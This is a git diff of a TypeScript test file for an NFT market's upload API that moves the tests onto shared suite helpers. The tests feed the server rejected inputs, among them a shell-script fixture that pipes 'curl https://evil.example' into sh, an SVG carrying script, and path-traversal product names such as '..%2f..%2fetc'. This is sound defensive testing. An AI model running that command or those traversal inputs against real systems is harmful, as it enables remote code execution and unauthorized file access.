@@ -7,14 +7,8 @@ import { existsSync, readdirSync } from 'node:fs'
 import { devAccount } from '@ghost/contracts/anvil'
 import type { ApiErrorBody, ApiUpload } from '@ghost/sdk'
 import sharp from 'sharp'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { DATABASE_TARGETS, type DatabaseTargetHandle } from '../test/databaseTargets'
-import {
-  type MarketChain,
-  type MarketServer,
-  startMarketChain,
-  startMarketServer,
-} from './test/marketFixture'
+import { beforeAll, expect, test } from 'vitest'
+import { describeEachDatabase, useMarketChain } from './test/marketSuite'
 import { encodeForm, type FormFile, rawRequest, uploadForm } from './test/uploadForm'
 
 const MAX_BYTES = 1_000_000
@@ -77,46 +71,33 @@ const SVG_WITH_SCRIPT = Buffer.from(
 )
 const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
 
-let chain: MarketChain
 let images: Images
-beforeAll(async () => {
-  ;[chain, images] = await Promise.all([startMarketChain(), makeImages()])
-}, 120_000)
-afterAll(async () => {
-  await chain?.stop()
+const world = useMarketChain(async () => {
+  images = await makeImages()
 })
 
-for (const target of DATABASE_TARGETS) {
-  describe.skipIf(!target.available)(target.title, () => {
-    let handle: DatabaseTargetHandle
-    let server: MarketServer
+describeEachDatabase(
+  world,
+  (suite) => {
     let token: string
     const uploader = devAccount(2).address.toLowerCase()
 
     beforeAll(async () => {
-      handle = await target.start()
-      server = await startMarketServer(chain, await handle.freshDatabase(), {
-        index: false,
-        config: { uploadMaxBytes: MAX_BYTES },
-      })
-      token = await server.signIn(devAccount(2))
+      token = await suite.server.signIn(devAccount(2))
     }, 60_000)
-    afterAll(async () => {
-      await server?.stop()
-      await handle?.stop()
-    })
 
     const upload = (files: FormFile[], options: { product?: string; token?: string } = {}) =>
-      server.request<ApiUpload & ApiErrorBody>(
+      suite.server.request<ApiUpload & ApiErrorBody>(
         'POST',
         `/v1/1337/${options.product ?? 'nft'}/upload`,
         { token: 'token' in options ? options.token : token, body: uploadForm(files) },
       )
-    const storedFiles = () => (existsSync(chain.filesDir) ? readdirSync(chain.filesDir).sort() : [])
+    const storedFiles = () =>
+      existsSync(world.chain.filesDir) ? readdirSync(world.chain.filesDir).sort() : []
     const uploadRows = () =>
-      server.database.db.selectFrom('market_upload').selectAll().orderBy('cid').execute()
+      suite.server.database.db.selectFrom('market_upload').selectAll().orderBy('cid').execute()
     const download = async (path: string) => {
-      const response = await fetch(`${server.url}${path}`)
+      const response = await fetch(`${suite.server.url}${path}`)
       return {
         type: response.headers.get('content-type'),
         bytes: Buffer.from(await response.arrayBuffer()),
@@ -160,7 +141,7 @@ for (const target of DATABASE_TARGETS) {
         height: 240,
       })
       expect(small.bytes.length).toBeLessThan(original.bytes.length)
-      const row = await server.database.db
+      const row = await suite.server.database.db
         .selectFrom('market_upload')
         .select(['product', 'filetype', 'thumbnail_cid', 'width', 'height', 'uploader'])
         .where('cid', '=', cid)
@@ -284,7 +265,7 @@ for (const target of DATABASE_TARGETS) {
 
     test('no file, an empty one, two files, a file in another field, too many fields, or not multipart: 400', async () => {
       const noFile = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
           token,
           body: uploadForm([], { name: 'x' }),
         }),
@@ -315,7 +296,7 @@ for (const target of DATABASE_TARGETS) {
       expect(empty.status).toBe(400)
       const fields = Object.fromEntries(Array.from({ length: 5 }, (_, index) => [`f${index}`, 'x']))
       const manyFields = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
           token,
           body: uploadForm([{ bytes: images.png }], fields),
         }),
@@ -326,13 +307,17 @@ for (const target of DATABASE_TARGETS) {
       )
       // four text fields beside the file are fine (ignored)
       const { f4: _, ...fourFields } = fields
-      const someFields = await server.request<ApiUpload>('POST', '/v1/1337/collection/upload', {
-        token,
-        body: uploadForm([{ bytes: images.webp }], fourFields),
-      })
+      const someFields = await suite.server.request<ApiUpload>(
+        'POST',
+        '/v1/1337/collection/upload',
+        {
+          token,
+          body: uploadForm([{ bytes: images.webp }], fourFields),
+        },
+      )
       expect(someFields.status).toBe(201)
       const json = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
           token,
           json: { file: images.png.toString('base64') },
         }),
@@ -340,7 +325,7 @@ for (const target of DATABASE_TARGETS) {
       expect(json.status).toBe(400)
       expect(json.body.message).toBe(noFile.body.message)
       const octets = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
           token,
           body: images.png,
           headers: { 'content-type': 'image/png' },
@@ -348,7 +333,7 @@ for (const target of DATABASE_TARGETS) {
       )
       expect(octets.status).toBe(400)
       const broken = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
           token,
           body: 'not a multipart body',
           headers: { 'content-type': 'multipart/form-data; boundary=xyz' },
@@ -373,7 +358,7 @@ for (const target of DATABASE_TARGETS) {
         'nft/..%2fx',
       ]) {
         const answer = await refused(() =>
-          rawRequest(server.url, 'POST', `/v1/1337/${product}/upload`, headers, body),
+          rawRequest(suite.server.url, 'POST', `/v1/1337/${product}/upload`, headers, body),
         )
         statuses[product] = answer.status
       }
@@ -391,7 +376,7 @@ for (const target of DATABASE_TARGETS) {
         }
       `)
       const answer = await refused(() =>
-        rawRequest(server.url, 'POST', '/v1/1337/..%2f..%2fetc/upload', headers, body),
+        rawRequest(suite.server.url, 'POST', '/v1/1337/..%2f..%2fetc/upload', headers, body),
       )
       expect(answer.body).toMatchInlineSnapshot(`
         {
@@ -421,7 +406,7 @@ for (const target of DATABASE_TARGETS) {
         }
       `)
       const otherChain = await refused(() =>
-        server.request<ApiErrorBody>('POST', '/v1/56/nft/upload', {
+        suite.server.request<ApiErrorBody>('POST', '/v1/56/nft/upload', {
           token,
           body: uploadForm([{ bytes: images.png }]),
         }),
@@ -430,11 +415,12 @@ for (const target of DATABASE_TARGETS) {
     })
 
     test('JSON routes outside the upload scope still parse JSON', async () => {
-      const answer = await server.request<ApiErrorBody>('POST', '/api/auth/login', {
+      const answer = await suite.server.request<ApiErrorBody>('POST', '/api/auth/login', {
         json: { message: 5, signature: 'not hex' },
       })
       expect(answer.status).toBe(400)
       expect(answer.body.issues?.length).toBeGreaterThan(0)
     })
-  })
-}
+  },
+  { index: false, config: { uploadMaxBytes: MAX_BYTES } },
+)
